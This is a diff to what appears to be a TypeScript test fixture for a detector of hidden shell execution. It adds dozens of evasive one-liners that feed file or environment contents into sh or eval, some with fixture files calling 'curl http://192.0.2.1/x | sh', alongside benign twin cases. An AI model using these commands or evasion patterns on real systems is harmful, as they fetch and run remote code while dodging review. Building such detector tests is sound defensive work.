@@ -95,6 +95,75 @@ const RELATIVE_TWINS: readonly ImageCase[] = [
   }),
 ];
 
-export const BY_SETTINGS: readonly ImageCase[] = [...RELATIVE];
+/** Texts that commands show, choose from, copy or take apart before a shell reads them. */
+const SHOWN: readonly ImageCase[] = [
+  found("awk -F= '/^JOB/{print $2}' logo.txt | sh", { 'app/logo.txt': `a=1\nJOB=${FETCH}\n` }),
+  found("awk 'NR==2' logo.txt > /tmp/x; sh /tmp/x", { 'app/logo.txt': `a\n${FETCH}\n` }),
+  found(`eval "$(awk '/curl/ {print $0}' logo.txt)"`),
+  found('sort -u logo.txt | head -n 1 | sh'),
+  found('iconv -f utf8 logo.txt | fold -w 200 | sh'),
+  found('nl logo.txt | cut -f2 | sh'),
+  found("paste -sd' ' logo.txt | sh", { 'app/logo.txt': 'curl http://192.0.2.1/x\n|\nsh\n' }),
+  found('fmt -w 200 logo.txt | sh', { 'app/logo.txt': 'curl http://192.0.2.1/x\n| sh\n' }),
+  found("diff a.txt logo.txt | sed -n 's/^> //p' | sh", { ...LOGO, 'app/a.txt': 'a\n' }),
+  found('envsubst < logo.tpl | sh', { 'app/logo.tpl': '$A http://192.0.2.1/x | sh\n' }, ['A=curl']),
+  found('getent passwd zed | cut -d: -f5- | sh', {
+    'etc/passwd': `root:x:0:0::/root:/bin/sh\nzed:x:5:5:${FETCH}\n`,
+  }),
+  found('for v in $(compgen -e); do case $v in JOB) eval "${!v}";; esac; done', {}, [`JOB=${FETCH}`]),
+  found('xargs -0 -n1 echo < /proc/self/environ | grep ^JOB | cut -d= -f2- | sh', {}, [`JOB=${FETCH}`]),
+  found('go() { eval "$2"; }; mapfile -t -C go -c 1 < logo.txt'),
+  found('while IFS== read -r k v; do [ $k = JOB ] && sh -c "$v"; done < c.env', {
+    'app/c.env': `A=b\nJOB=${FETCH}\n`,
+  }),
+  found('IFS=$\'\\n\' read -d "" -ra a < logo.txt; for x in "${a[@]}"; do eval "$x"; done'),
+  found('exec < logo.txt; sh'),
+  found('exec < logo.txt; read -r x; $SHELL -c "$x"'),
+  found('install -m 755 logo.txt /usr/local/bin/tool && tool'),
+  found('cp logo.txt /opt/tool; PATH=/opt:$PATH; tool'),
+  found('hash -p /app/logo.txt tool; tool'),
+  found('dd if=logo.txt of=/tmp/x 2>/dev/null; sh /tmp/x'),
+  found('split -l 1 logo.txt /tmp/p; sh /tmp/pab', { 'app/logo.txt': `a\n${FETCH}\n` }),
+  found('split -d -n 1 logo.txt /tmp/p; sh /tmp/p00'),
+  found('cp -t /tmp logo.txt; sh /tmp/logo.txt'),
+  found('cp -r /app /tmp/b; sh /tmp/b/logo.txt'),
+  found('cp /app/* /tmp/; sh /tmp/logo.txt'),
+  found('ln -s /app /tmp/b; sh /tmp/b/logo.txt'),
+  found('mount --bind /app /mnt; sh /mnt/logo.txt'),
+  found('find /app -name "logo*" -exec sh {} \\;'),
+  found("find . -name 'lo*' -exec sh {} +"),
+  found("find . -name 'lo*' -print0 | xargs -0 sh"),
+  found('ls *.txt | xargs -n 1 sh'),
+  found('sh $(ls *.txt)'),
+  found(`sh "$(find /app -name 'logo*')"`),
+  found("xargs -d '\\n' -n1 sh -c < logo.txt"),
+  found(`coproc sh; echo '${FETCH}' >&\${COPROC[1]}`, {}),
+  found('coproc IN { cat logo.txt; }; sh <&${IN[0]}'),
+];
 
-export const BY_SETTINGS_TWINS: readonly ImageCase[] = [...RELATIVE_TWINS];
+const SHOWN_TWINS: readonly ImageCase[] = [
+  honest(
+    "awk -F: '{print $1}' /etc/passwd | sort -u | xargs -n1 echo; awk '/curl/' logo.txt; nl logo.txt | more",
+  ),
+  honest(
+    'envsubst < nginx.tpl > /etc/nginx/conf.d/default.conf && exec nginx -g "daemon off;"',
+    {
+      'app/nginx.tpl': `# ${FETCH}\nserver { listen $PORT; }\n`,
+    },
+    ['PORT=80'],
+  ),
+  honest('while IFS== read -r k v; do export "$k=$v"; done < c.env; exec app', {
+    'app/c.env': `A=b\nNOTE=${FETCH}\n`,
+  }),
+  honest(
+    'find /app -name "*.txt" -exec chmod 644 {} +; find /app -type f | xargs wc -l; ls /app | xargs -n1 echo',
+  ),
+  honest(
+    'cp -r /app /srv/app; mapfile -t a < logo.txt; printf "%s\\n" "${a[@]}"; split -l 1 logo.txt /tmp/p',
+  ),
+  honest('find /app/d -name "*.sh" -exec sh {} \\;', { 'app/d/a.sh': 'echo ready\n', ...NOTES }),
+];
+
+export const BY_SETTINGS: readonly ImageCase[] = [...RELATIVE, ...SHOWN];
+
+export const BY_SETTINGS_TWINS: readonly ImageCase[] = [...RELATIVE_TWINS, ...SHOWN_TWINS];
